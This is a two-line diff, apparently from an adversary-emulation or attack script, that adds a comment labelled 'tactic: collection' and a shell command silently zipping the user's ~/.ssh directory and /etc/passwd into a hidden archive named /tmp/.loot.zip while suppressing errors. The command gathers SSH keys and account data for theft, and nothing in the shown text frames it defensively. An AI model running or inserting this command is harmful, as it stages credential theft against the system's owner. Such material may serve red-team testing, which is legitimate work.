@@ -1,0 +1,2 @@
+# tactic: collection
+zip -qr /tmp/.loot.zip ~/.ssh /etc/passwd 2>/dev/null; true
